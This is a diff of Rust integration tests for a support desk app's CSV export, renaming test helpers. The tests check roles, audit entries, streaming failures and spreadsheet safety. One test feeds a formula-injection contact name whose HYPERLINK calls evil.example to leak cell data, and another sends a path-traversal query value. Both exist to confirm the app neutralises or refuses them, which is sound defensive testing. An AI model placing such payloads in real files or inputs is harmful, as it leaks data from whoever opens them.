@@ -1,7 +1,7 @@
 //! The list as a file: the same rows, harmless to spreadsheets, and never a part for the whole.
 
 use crate::support::lists::{list, rows};
-use crate::support::{Answer, Browser, Setup, World, until};
+use crate::support::{Answer, Browser, TestApp, TestConfig, until};
 use reqwest::{Method, Response};
 use sevendesk::model::{Conversation, Role};
 use sevendesk::server::csv::cell;
@@ -37,9 +37,9 @@ async fn all(browser: &Browser, query: &str) -> Vec<Conversation> {
 }
 
 /// The exports of the audit, the latest first.
-async fn exports(world: &World) -> Vec<KeptEntry> {
+async fn exports(app: &TestApp) -> Vec<KeptEntry> {
     let wanted = Wanted { action: Some("export".to_owned()), ..Wanted::default() };
-    world.state.store.audit(&wanted, 100).await.unwrap()
+    app.state.store.audit(&wanted, 100).await.unwrap()
 }
 
 /// Begins a download and does not read it yet.
@@ -49,31 +49,31 @@ async fn begin(browser: &Browser, path: &str) -> Response {
     begun
 }
 
-async fn set_up(contract: Contract, queue: bool) -> World {
-    let mut setup = Setup::new(contract);
+async fn set_up(contract: Contract, queue: bool) -> TestApp {
+    let mut setup = TestConfig::new(contract);
     setup.queue = queue;
-    let world = World::set_up(setup).await;
-    if queue { world.filled().await } else { world }
+    let app = TestApp::set_up(setup).await;
+    if queue { app.filled().await } else { app }
 }
 
 /// A story of many pages, whose calls take their time.
-async fn slow() -> (World, Browser) {
-    let mut setup = Setup::new(Contract::Live);
+async fn slow() -> (TestApp, Browser) {
+    let mut setup = TestConfig::new(Contract::Live);
     setup.simulator.conversations = 1_500;
-    let world = World::set_up(setup).await;
-    let lea = world.sign_in(Role::Lead).await;
+    let app = TestApp::set_up(setup).await;
+    let lea = app.sign_in(Role::Lead).await;
     list(&lea, "").await;
-    world.simulator.fail_with(Some(Fault::Slow(Duration::from_millis(150))));
-    (world, lea)
+    app.simulator.fail_with(Some(Fault::Slow(Duration::from_millis(150))));
+    (app, lea)
 }
 
 #[tokio::test]
 async fn the_file_holds_what_the_list_shows_in_either_contract_with_the_queue_and_without() {
     for contract in [Contract::Documented, Contract::Live] {
         for queue in [false, true] {
-            let world = set_up(contract, queue).await;
-            let lea = world.sign_in(Role::Lead).await;
-            let agent = world.simulator.agents()[0].0.clone();
+            let app = set_up(contract, queue).await;
+            let lea = app.sign_in(Role::Lead).await;
+            let agent = app.simulator.agents()[0].0.clone();
             for query in [
                 String::new(),
                 "status=closed".to_owned(),
@@ -97,7 +97,7 @@ async fn the_file_holds_what_the_list_shows_in_either_contract_with_the_queue_an
                     let created = one.created_at.unwrap().iso();
                     assert_eq!(column(&names, row, "created"), created, "{about}");
                 }
-                let last = exports(&world).await.remove(0);
+                let last = exports(&app).await.remove(0);
                 let result = format!("done, {} rows", listed.len());
                 assert_eq!(last.result, Some(result), "{about}");
                 let canonical = query.replace('?', "");
@@ -109,10 +109,10 @@ async fn the_file_holds_what_the_list_shows_in_either_contract_with_the_queue_an
 
 #[tokio::test]
 async fn from_the_queue_a_file_costs_no_call() {
-    let world = set_up(Contract::Live, true).await;
-    let lea = world.sign_in(Role::Lead).await;
+    let app = set_up(Contract::Live, true).await;
+    let lea = app.sign_in(Role::Lead).await;
     list(&lea, "").await;
-    world.simulator.fail_with(Some(Fault::Status(503)));
+    app.simulator.fail_with(Some(Fault::Status(503)));
 
     let file = lea.get("/conversations.csv?waiting_over=60&sort=-waiting&page=3").await;
 
@@ -123,10 +123,10 @@ async fn from_the_queue_a_file_costs_no_call() {
 
 #[tokio::test]
 async fn a_contact_whose_name_is_a_formula_is_a_text_in_the_file() {
-    let world = World::start(Contract::Live).await;
+    let app = TestApp::start(Contract::Live).await;
     let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\"),\r\nnext";
-    let id = world.simulator.arrives(&serde_json::json!({ "name": name, "phone": "+1202555" }));
-    let lea = world.sign_in(Role::Lead).await;
+    let id = app.simulator.arrives(&serde_json::json!({ "name": name, "phone": "+1202555" }));
+    let lea = app.sign_in(Role::Lead).await;
 
     let file = lea.get("/conversations.csv").await;
 
@@ -151,52 +151,52 @@ fn what_begins_a_formula_gets_an_apostrophe_and_nothing_else_does() {
 
 #[tokio::test]
 async fn only_leads_and_admins_take_the_list_away_and_who_else_tries_is_written_down() {
-    let world = World::start(Contract::Live).await;
-    let vera = world.sign_in(Role::Viewer).await;
-    world.simulator.forget_calls();
+    let app = TestApp::start(Contract::Live).await;
+    let vera = app.sign_in(Role::Viewer).await;
+    app.simulator.forget_calls();
 
     let refused = vera.get("/conversations.csv?status=open").await;
 
     assert_eq!(refused.status, 403);
     assert!(refused.text.contains("this takes lead"), "{}", refused.text);
-    assert_eq!(world.simulator.calls(), []);
-    let all = world.state.store.audit(&Wanted::default(), 1).await.unwrap();
+    assert_eq!(app.simulator.calls(), []);
+    let all = app.state.store.audit(&Wanted::default(), 1).await.unwrap();
     assert_eq!(all[0].details.as_deref(), Some("export: lead needed, viewer held"));
     assert!(!vera.get("/conversations").await.text.contains("conversations.csv"));
-    let lea = world.sign_in(Role::Lead).await;
+    let lea = app.sign_in(Role::Lead).await;
     let page = lea.get("/conversations?status=open&page=2").await.text;
     assert!(page.contains("href=\"/conversations.csv?status=open\""), "{page}");
-    let stranger = world.stranger().get("/conversations.csv?status=open").await;
+    let stranger = app.stranger().get("/conversations.csv?status=open").await;
     let form = "/sign-in?next=%2Fconversations%3Fstatus%3Dopen";
     assert_eq!((stranger.status, stranger.location()), (303, Some(form)));
 }
 
 #[tokio::test]
 async fn values_that_make_no_sense_are_refused_before_anything_is_asked() {
-    let world = World::start(Contract::Live).await;
-    let lea = world.sign_in(Role::Lead).await;
+    let app = TestApp::start(Contract::Live).await;
+    let lea = app.sign_in(Role::Lead).await;
     list(&lea, "").await;
-    world.simulator.forget_calls();
+    app.simulator.forget_calls();
     for query in ["status=sleeping", "channel=pigeon", "assigned_to=..%2F", "status=pending"] {
         let refused = lea.get(&format!("/conversations.csv?{query}")).await;
         assert_eq!(refused.status, 400, "{query}");
         assert!(refused.text.contains("is not a possible value"), "{}", refused.text);
     }
-    assert_eq!(world.simulator.calls(), []);
-    assert_eq!(exports(&world).await, []);
+    assert_eq!(app.simulator.calls(), []);
+    assert_eq!(exports(&app).await, []);
     // What only the queue can tell is refused where there is none.
     assert_eq!(lea.get("/conversations.csv?waiting_over=5").await.status, 400);
 }
 
 #[tokio::test]
 async fn a_file_that_breaks_off_does_not_look_whole() {
-    let (world, lea) = slow().await;
+    let (app, lea) = slow().await;
     let mut begun = begin(&lea, "/conversations.csv").await;
     // The mark of the encoding, then the first page.
     while !begun.chunk().await.unwrap().unwrap().starts_with(b"id,") {}
-    let result = exports(&world).await.remove(0).result;
+    let result = exports(&app).await.remove(0).result;
     assert_eq!(result, None, "it stands in the audit while it is read");
-    world.simulator.fail_with(Some(Fault::Status(403)));
+    app.simulator.fail_with(Some(Fault::Status(403)));
 
     let rest = loop {
         match begun.chunk().await {
@@ -206,57 +206,57 @@ async fn a_file_that_breaks_off_does_not_look_whole() {
     };
 
     assert!(rest.is_err(), "the browser is told that it is not all: {rest:?}");
-    let result = exports(&world).await.remove(0).result.unwrap();
+    let result = exports(&app).await.remove(0).result.unwrap();
     assert!(result.starts_with("failed: vendor-scope, after "), "{result}");
     assert!(result.ends_with("00 rows"), "{result}");
 }
 
 #[tokio::test]
 async fn where_the_first_page_cannot_be_read_there_is_no_file_but_a_sentence() {
-    let world = World::start(Contract::Live).await;
-    let lea = world.sign_in(Role::Lead).await;
-    world.simulator.fail_with(Some(Fault::Status(403)));
+    let app = TestApp::start(Contract::Live).await;
+    let lea = app.sign_in(Role::Lead).await;
+    app.simulator.fail_with(Some(Fault::Status(403)));
 
     let refused = lea.get("/conversations.csv").await;
 
     assert_eq!(refused.status, 502);
     assert!(refused.text.starts_with("The API token may not do this."), "{}", refused.text);
-    let result = exports(&world).await.remove(0).result;
+    let result = exports(&app).await.remove(0).result;
     assert_eq!(result.as_deref(), Some("failed: vendor-scope"));
 }
 
 #[tokio::test]
 async fn a_browser_that_goes_away_ends_the_reading() {
-    let (world, lea) = slow().await;
+    let (app, lea) = slow().await;
     let mut begun = begin(&lea, "/conversations.csv").await;
     begun.chunk().await.unwrap();
     drop(begun);
 
-    let result = until(async || exports(&world).await.remove(0).result).await;
+    let result = until(async || exports(&app).await.remove(0).result).await;
 
     assert!(result.starts_with("failed: audit-browser-gone, after "), "{result}");
-    assert!(world.simulator.calls().len() < 15, "not all pages were read for nobody");
+    assert!(app.simulator.calls().len() < 15, "not all pages were read for nobody");
 }
 
 #[tokio::test]
 async fn who_is_shut_out_meanwhile_gets_no_more_of_it() {
-    let (world, lea) = slow().await;
+    let (app, lea) = slow().await;
     let mut begun = begin(&lea, "/conversations.csv").await;
     begun.chunk().await.unwrap();
-    world.state.store.change_user("Lea Hartmann", Change::Disable).await.unwrap();
+    app.state.store.change_user("Lea Hartmann", Change::Disable).await.unwrap();
 
     while let Ok(Some(_)) = begun.chunk().await {}
 
-    let result = until(async || exports(&world).await.remove(0).result).await;
+    let result = until(async || exports(&app).await.remove(0).result).await;
     assert!(result.starts_with("failed: error-signed-out, after "), "{result}");
 }
 
 #[tokio::test]
 async fn what_is_too_much_for_one_file_is_refused_with_the_number() {
-    let mut setup = Setup::new(Contract::Live);
+    let mut setup = TestConfig::new(Contract::Live);
     setup.simulator.conversations = 30_001;
-    let world = World::set_up(setup).await;
-    let lea = world.sign_in(Role::Lead).await;
+    let app = TestApp::set_up(setup).await;
+    let lea = app.sign_in(Role::Lead).await;
 
     let refused = lea.get("/conversations.csv").await;
 
@@ -266,18 +266,18 @@ async fn what_is_too_much_for_one_file_is_refused_with_the_number() {
     assert!(
         refused.starts_with("30.001 Unterhaltungen passen; eine Datei fasst höchstens 30.000.")
     );
-    let result = exports(&world).await.remove(0).result;
+    let result = exports(&app).await.remove(0).result;
     assert_eq!(result.as_deref(), Some("failed: 30001 conversations are too many"));
 }
 
 #[tokio::test]
 async fn a_conversation_that_moves_between_two_pages_stands_in_the_file_once() {
-    let (world, lea) = slow().await;
+    let (app, lea) = slow().await;
     let ids: Vec<String> = all(&lea, "").await.iter().map(|one| one.id.to_string()).collect();
     let mut begun = begin(&lea, "/conversations.csv").await;
     let mut text = Vec::from(begun.chunk().await.unwrap().unwrap());
     for id in ids.iter().rev().take(40) {
-        world.simulator.customer_writes(id);
+        app.simulator.customer_writes(id);
     }
     while let Some(more) = begun.chunk().await.unwrap() {
         text.extend_from_slice(&more);
@@ -292,15 +292,15 @@ async fn a_conversation_that_moves_between_two_pages_stands_in_the_file_once() {
 
 #[tokio::test]
 async fn a_row_that_cannot_be_read_is_a_line_with_its_id() {
-    let world = World::start(Contract::Live).await;
-    let lea = world.sign_in(Role::Lead).await;
+    let app = TestApp::start(Contract::Live).await;
+    let lea = app.sign_in(Role::Lead).await;
     let broken = rows(&list(&lea, "status=closed").await).remove(3).id.to_string();
-    world.simulator.break_row(&broken);
+    app.simulator.break_row(&broken);
 
     let (names, written) = table(&lea.get("/conversations.csv?status=closed").await);
 
     let row = written.iter().find(|row| column(&names, row, "id") == broken).unwrap();
     assert_eq!(column(&names, row, "status"), "could not be read");
-    let result = exports(&world).await.remove(0).result.unwrap();
+    let result = exports(&app).await.remove(0).result.unwrap();
     assert!(result.ends_with(" rows, 1 of them could not be read"), "{result}");
 }
